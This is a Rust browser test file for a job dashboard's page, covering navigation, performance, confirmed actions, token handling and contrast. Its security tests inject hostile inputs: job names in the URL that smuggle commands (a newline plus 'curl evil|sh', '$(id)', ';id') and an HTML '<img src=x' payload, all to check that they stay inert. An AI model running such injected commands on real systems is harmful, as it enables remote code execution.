//! A Job that opens on the page: what it shows, what it lets a viewer do, and how long it stops the browser.

use std::path::Path;

use serde_json::{Value, json};
use yardmaster::telemetry::http::JobAction;

use super::CONTRAST;
use super::live::Indexed;
use super::model::{HOSTILE, Model};
use crate::browser::Browser;

/// The name of a Job of the model, which is `NAMESPACE/NAME`.
async fn first_job(browser: &mut Browser) -> String {
    browser.until("document.querySelectorAll('#job-rows tr').length > 0").await;
    let name = browser.value("document.querySelector('#job-rows a').textContent").await;
    name.as_str().unwrap().to_owned()
}

/// The text of the map for screen readers.
const MAP: &str = "document.querySelector('#map').getAttribute('aria-label')";

#[tokio::test(flavor = "multi_thread")]
async fn a_job_opens_by_key_with_its_failures_map_nodes_and_log() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(20, Indexed::of(200)).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    browser.value("document.querySelector('#job-rows a').focus()").await;
    browser.press("Enter").await;
    browser.until(&format!("location.hash === '#job={job}'")).await;
    let title = job.split('/').nth(1).unwrap();
    browser.until(&format!("document.querySelector('#job-title').textContent === '{title}'")).await;

    // Two of the indexes in each hundred are known to be failed and so on: see the model.
    browser.until(&format!("({MAP} || '').includes('1 failed, 20 running, 159 succeeded, 20 to do')")).await;
    browser.until("document.querySelector('#causes').textContent.startsWith('exit code 137')").await;
    browser.until("document.querySelector('#failure-rows button').textContent === 'sweep-99'").await;
    browser.until("document.querySelector('#failure-logs pre').textContent === 'CUDA out of memory'").await;
    browser.until("document.querySelector('#next-commands code').textContent === 'yardmaster logs ml/sweep --failed'").await;
    browser.until("document.querySelectorAll('#node-rows tr').length === 8").await;
    browser.until("document.querySelector('#timeline').getAttribute('aria-label').startsWith('Timeline of 180 pods, of which 1 failed')").await;
    assert_eq!(browser.value("document.querySelector('#timeline').height > 0").await, true);

    // The map by keys: to the failed index, and to the log of its pod.
    browser.value("document.querySelector('#map').focus()").await;
    browser.press("n").await;
    browser
        .until("document.querySelector('#map').getAttribute('aria-valuetext').startsWith('Index 99: failed')")
        .await;
    browser.press("Enter").await;
    browser.until("document.querySelector('#log-pod').textContent === 'sweep-99'").await;
    // The log is followed, and no line comes twice. A line whose end is missing is shown, and read again.
    let text = "document.querySelector('#log-text').textContent";
    browser.until(&format!("{text} === 'the first line\\nthe second line\\nthe thi'")).await;
    tokio::time::sleep(std::time::Duration::from_millis(2_500)).await;
    assert_eq!(browser.value(text).await, "the first line\nthe second line\nthe thi");
    assert_eq!(browser.value("location.hash.includes('tab=log&pod=sweep-99')").await, true);
    for (tab, place, text) in [
        ("events", "#event-rows", "exceeded quota"),
        ("conditions", "#condition-rows", "no room"),
        ("yaml", "#yaml-text", "apiVersion"),
    ] {
        browser.value(&format!("document.querySelector('#tab-{tab}').click()")).await;
        browser.until(&format!("document.querySelector('{place}').textContent.includes('{text}')")).await;
    }

    // The address alone leads to the same place, and Escape back to the list.
    let address = browser.value("location.href").await;
    browser.open("about:blank?").await;
    browser.open(address.as_str().unwrap()).await;
    browser.until(&format!("({MAP} || '').includes('1 failed')")).await;
    browser.until("document.querySelector('#tab-yaml').getAttribute('aria-selected') === 'true'").await;
    browser.press("Escape").await;
    browser
        .until("document.querySelector('#job-view').hidden && !document.querySelector('#list-view').hidden")
        .await;
    assert_eq!(browser.complaints, Vec::<Value>::new());
}

/// Opens a Job again and again, and lists the tasks of the page's thread of 50 ms and more, in milliseconds.
const LONG_TASKS: &str = r"(async (job) => {
    const rounds = [];
    const tasks = [];
    new PerformanceObserver((list) => tasks.push(...list.getEntries().map((entry) => entry.duration))).observe({ type: 'longtask' });
    for (let round = 0; round < 4; round += 1) {
        tasks.length = 0;
        location.hash = `#job=${job}`;
        document.querySelector('#map-count').textContent = '';
        for (let waited = 0; waited < 20_000 && document.querySelector('#map-count').textContent === ''; waited += 50) {
            await new Promise((resolve) => setTimeout(resolve, 50));
        }
        await new Promise((resolve) => setTimeout(resolve, 1_500));
        rounds.push(Math.max(0, ...tasks));
        location.hash = '#';
        await new Promise((resolve) => setTimeout(resolve, 500));
    }
    return rounds;
})";

#[tokio::test(flavor = "multi_thread")]
async fn ten_thousand_indexes_do_not_stop_the_browser() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(100, Indexed::of(10_000)).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    let rounds = browser.value(&format!("{LONG_TASKS}('{job}')")).await;
    println!("longest task of the page with 10,000 indexes, in ms: {rounds}");
    // On a machine that is busy with other things, the best round says most.
    assert!(rounds.as_array().unwrap().iter().any(|longest| longest.as_f64().unwrap() < 100.0), "{rounds}");
    assert_eq!(
        browser.value("document.querySelector('#map-count').textContent").await,
        "10,000 · a square each"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_action_without_the_right_is_grey_and_one_with_it_is_confirmed() {
    let Some(mut browser) = Browser::start().await else { return };
    let live = Indexed::of(100);
    let model = Model::live(20, live.clone()).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    browser.open(&format!("{}#job={job}", model.url)).await;
    browser.until("document.querySelectorAll('#job-actions button').length === 2").await;
    let disabled = "Object.fromEntries([...document.querySelectorAll('#job-actions button')].map((one) => [one.value, one.disabled]))";
    assert_eq!(browser.value(disabled).await, json!({"suspend": false, "delete": true}));
    browser.value("document.querySelector('#job-actions [value=suspend]').click()").await;
    browser.until("document.querySelector('#confirm').open").await;
    assert!(live.done.lock().unwrap().is_empty(), "nothing happens before it is confirmed");
    browser.value("document.querySelector('#confirm-yes').click()").await;
    browser.until("!document.querySelector('#confirm').open").await;
    assert_eq!(*live.done.lock().unwrap(), [JobAction::Suspend]);
    // A refusal of the API server is shown where the viewer looks.
    browser.value("document.querySelector('#job-actions [value=suspend]').click()").await;
    browser.value("document.querySelector('#confirm').uid = 'stale', document.querySelector('#confirm-yes').click()").await;
    browser.until("document.querySelector('#confirm-problem').textContent === 'no right'").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_of_tenants_are_never_code_in_a_job() {
    let Some(mut browser) = Browser::start().await else { return };
    let live = Indexed { text: Some(HOSTILE.to_owned()), ..Indexed::of(200) };
    let model = Model::live(20, live).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    for tab in ["log&pod=p", "events", "conditions", "yaml", "pods"] {
        browser.open(&format!("{}#job={job}&tab={tab}", model.url)).await;
        let panel = tab.split('&').next().unwrap();
        browser
            .until(&format!("document.querySelector('#panel-{panel}').textContent.includes('<img src=x')"))
            .await;
    }
    for place in ["#failure-rows", "#failure-logs", "#next-commands", "#node-rows"] {
        browser.until(&format!("document.querySelector('{place}').textContent.includes('<img src=x')")).await;
    }
    for expression in [
        "document.images.length",
        "document.scripts.length - 1",
        "document.querySelectorAll('[onerror], iframe, object').length",
        "Number(window.planted === true)",
    ] {
        assert_eq!(browser.value(expression).await, 0, "{expression}");
    }
    assert_eq!(browser.complaints, Vec::<Value>::new());
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_brings_no_text_into_commands() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(20, Indexed::of(100)).await;
    for job in ["ml/x%0Acurl%20evil|sh%0A", "ml/x$(id)", "ml/x;id", "-h/x", "ml", "ml/x/y"] {
        browser.open("about:blank?").await;
        browser.open(&format!("{}#job={job}", model.url)).await;
        browser.until("document.querySelectorAll('#job-rows tr').length > 0").await;
        let shown = "[document.querySelector('#job-view').hidden, document.querySelectorAll('#next-commands code').length]";
        assert_eq!(browser.value(shown).await, json!([true, 0]), "{job}");
    }
    let job = first_job(&mut browser).await;
    browser.open(&format!("{}#job={job}&tab=log&pod=p%0Aid", model.url)).await;
    browser.until("document.querySelector('#tab-log').getAttribute('aria-selected') === 'true'").await;
    assert_eq!(browser.value("document.querySelector('#log-pod').textContent").await, "");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_token_of_the_cluster_the_replicas_part_is_shown_and_a_token_is_asked_for() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::serve(20).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    // This page has no live part at all.
    browser.open(&format!("{}#job={job}&token=secret", model.url)).await;
    browser
        .until("document.querySelector('#live-problem').textContent.startsWith('This page cannot ask')")
        .await;
    browser.until("document.querySelectorAll('#job-facts div').length >= 3").await;
    browser.until("document.querySelectorAll('#next-commands code').length >= 2").await;
    assert_eq!(browser.value("location.hash").await, format!("#job={job}"), "the token does not stay there");
}

#[tokio::test(flavor = "multi_thread")]
async fn reasons_are_counted_whatever_their_names() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::serve(20).await;
    browser.open(&model.url).await;
    first_job(&mut browser).await;
    // The last one has failed.
    let links = "[...document.querySelectorAll('#job-rows a')].map((link) => link.textContent)";
    let job = browser.value(&format!("{links}.find((name) => name.endsWith('-0019'))")).await;
    browser.open(&format!("{}#job={}", model.url, job.as_str().unwrap())).await;
    let rows = "[...document.querySelectorAll('#causes tr')].map((row) => row.textContent)";
    browser.until(&format!("{rows}.includes('constructor1\u{d7}')")).await;
}

/// Writes down the path and the token of each request.
const NOTE_REQUESTS: &str = r"(() => {
    window.asked = [];
    const send = window.fetch;
    window.fetch = (path, options) => {
        window.asked.push([path.split('?')[0], options.headers.Authorization || '']);
        return send(path, options);
    };
})()";

#[tokio::test(flavor = "multi_thread")]
async fn the_token_of_a_viewer_goes_to_the_questions_that_need_it_and_nowhere_else() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(20, Indexed::of(100)).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    browser.open(&format!("{}#job={job}", model.url)).await;
    browser.until(&format!("({MAP} || '').includes('succeeded')")).await;
    browser.value(NOTE_REQUESTS).await;
    browser
        .value("document.querySelector('#viewer-token').value = 'v', document.querySelector('#viewer').requestSubmit()")
        .await;
    browser.until("asked.some(([path, token]) => path === '/debug/job' && token === 'Bearer v')").await;
    browser.until("asked.filter(([path]) => path === '/debug/overview').length >= 2").await;
    browser.value("document.querySelector('#back').click()").await;
    browser.until("asked.filter(([path]) => path === '/debug/overview').length >= 4").await;
    let others = "asked.filter(([path, token]) => !path.startsWith('/debug/job') && token !== '').map(([path]) => path)";
    assert_eq!(browser.value(others).await, json!([]));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_token_of_a_viewer_is_forgotten_once_the_server_is_gone() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(20, Indexed::of(100)).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    browser.open(&format!("{}#job={job}", model.url)).await;
    browser.until(&format!("({MAP} || '').includes('succeeded')")).await;
    browser.value(NOTE_REQUESTS).await;
    browser
        .value("document.querySelector('#viewer-token').value = 'v', document.querySelector('#viewer').requestSubmit()")
        .await;
    browser.until("asked.some(([path, token]) => path === '/debug/job' && token === 'Bearer v')").await;
    let refuse =
        "window.noted = window.fetch, window.fetch = () => Promise.reject(new TypeError('refused')), 0";
    browser.value(refuse).await;
    browser.until("sessionStorage.getItem('yardmaster-viewer-token') === ''").await;
    browser.value("window.asked = [], window.fetch = window.noted, 0").await;
    browser.until("asked.filter(([path]) => path === '/debug/job').length > 0").await;
    assert_eq!(browser.value("asked.filter(([, token]) => token !== '').length").await, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_opened_job_is_legible_in_both_themes() {
    let Some(mut browser) = Browser::start().await else { return };
    let model = Model::live(100, Indexed::of(10_000)).await;
    browser.open(&model.url).await;
    let job = first_job(&mut browser).await;
    for theme in ["light", "dark"] {
        browser.theme(theme).await;
        browser.open(&format!("{}#job={job}", model.url)).await;
        browser.until(&format!("({MAP} || '').includes('failed')")).await;
        browser.until("document.querySelectorAll('#pod-rows tr').length > 5").await;
        let worst = browser.value(CONTRAST).await;
        println!("{theme}: {worst}");
        assert!(worst["contrast"].as_f64().unwrap() >= 4.5, "{theme}: {worst}");
    }
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/img/page-job.webp");
    let size = std::fs::metadata(&file).unwrap().len();
    assert!((10_000..150_000).contains(&size), "{}: {size} bytes", file.display());
}
